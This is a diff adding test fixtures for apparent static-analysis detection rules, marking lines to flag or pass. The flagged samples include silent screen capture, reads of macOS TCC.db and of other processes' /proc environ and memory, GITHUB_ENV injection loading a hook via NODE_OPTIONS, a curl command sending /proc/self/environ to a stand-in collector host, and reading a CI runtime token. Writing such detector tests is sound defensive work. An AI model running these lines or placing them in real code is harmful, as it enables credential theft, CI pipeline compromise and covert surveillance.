@@ -200,3 +200,34 @@ def swap(text):
     return text
 # ruleid: clipboard-access, clipboard-wallet-swap
 pyperclip.copy(swap(pasted))
+# silent-screen-capture-command: a screenshot without the shutter sound
+# ruleid: silent-screen-capture-command
+subprocess.run(["screencapture", "-x", "-t", "jpg", "shot.jpg"])
+# ok: silent-screen-capture-command
+subprocess.run(["screencapture", "-i", "shot.png"])
+# the macOS privacy grants database
+# ruleid: sensitive-credential-path
+_tcc = os.path.expanduser("~/Library/Application Support/com.apple.TCC/TCC.db")
+# another process's environment and memory, the pid formatted in
+def _scrape(pid):
+    # ruleid: sensitive-credential-path
+    _env = open("/proc/%s/environ" % pid, "rb").read()
+    # ruleid: sensitive-credential-path
+    _mem = open(f"/proc/{pid}/mem", "rb", 0)
+    return _env, _mem
+# ci-env-code-injection: later steps made to load a file of ours
+# ruleid: environment-read
+_ghenv = os.environ.get("GITHUB_ENV")
+with open(_ghenv, "a") as _fh:
+    # ruleid: ci-env-code-injection
+    _fh.write("NODE_OPTIONS=--require=/tmp/hook.js\n")
+    # ok: ci-env-code-injection
+    _fh.write("RELEASE_VERSION=1.4.2\n")
+# credential-upload-command-string: a payload for a shell to run later
+# ruleid: credential-upload-command-string
+_bashenv = "curl -sf --data-binary @/proc/self/environ https://ci-collect.example/b &"
+# ok: credential-upload-command-string
+_upload = "curl -sf -F file=@dist/app.whl https://uploads.example.com/"
+# ci-runner-internal-token
+# ruleid: ci-runner-internal-token, environment-read
+_rt = os.environ.get("ACTIONS_RUNTIME_TOKEN", "")
